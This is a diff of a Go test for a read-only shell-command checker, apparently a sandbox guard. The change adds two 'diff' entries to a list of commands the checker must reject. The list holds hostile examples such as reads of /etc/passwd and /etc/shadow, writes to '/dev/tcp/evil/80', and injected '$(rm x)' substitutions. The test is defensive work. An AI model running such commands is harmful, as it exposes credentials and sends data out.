@@ -38,7 +38,7 @@ func TestReadOnlyCommands(t *testing.T) {
 		"cat /etc/passwd", "cat /etc/*", "echo /etc/*", "cat ../out/data", "cat leak", "cat away/data", "cat le*", "cat */data", "cat < /etc/passwd", "cat < leak", "ls ..", "ls ~", "ls $HOME", "cd ..", "cd", "cd ~", "cd -", "cd / && ls", "cd away && ls",
 		"cd nowhere; cat ../x", "cd src; cat ../../x", "cd src && cat ../../out/data", "cd src || cat ../out/data", "cd in && cat ../../out/data", "cd \"$x\" && ls", "while cd ..; do cat x; done", "f() { cd ..; }; f; ls",
 		"bash -c ls", "sh a.sh", "./ls", "src/ls", "/tmp/ls", "eval ls", "xargs ls", "xargs rm", "sudo ls", "exec ls", "ls() { rm x; }; ls", "trap ls EXIT", "alias ls=rm", "export x=1", "read x", "set -x", "source x", "kill 1",
-		"for f in /etc/*; do echo \"$f\"; done", "cat **/*.go", "cat [a-z]*", "grep x $(cat a.txt)", "grep -f /etc/passwd a.txt", "grep -ie root /etc/shadow", "grep -R x .", "diff -r src secret", "head -c5 /etc/passwd", "tail -n 5 -- /etc/passwd",
+		"for f in /etc/*; do echo \"$f\"; done", "cat **/*.go", "cat [a-z]*", "grep x $(cat a.txt)", "grep -f /etc/passwd a.txt", "grep -ie root /etc/shadow", "grep -R x .", "diff -r src secret", "diff src secret", "diff a.txt src", "head -c5 /etc/passwd", "tail -n 5 -- /etc/passwd",
 		"wc --files0-from=/etc/passwd", "ls --hide", "cat --unknown a.txt", "go env -w A=b", "go list ./...", "python3 -c 1", "make", "npm test", "curl x", "coproc ls", "ls | tee x", "ls )", "cat <<E\n$(rm x)\nE",
 		"echo a >/dev/tcp/evil/80", "cat </dev/tcp/evil/80", "ps e", "env", "printenv", "history", "sleep 1 & kill $!", "git diff --no-index /etc/passwd a.txt", "test -v 'a[$(rm x)]'", "printf -v x a", "cat a.txt\x00",
 	} {
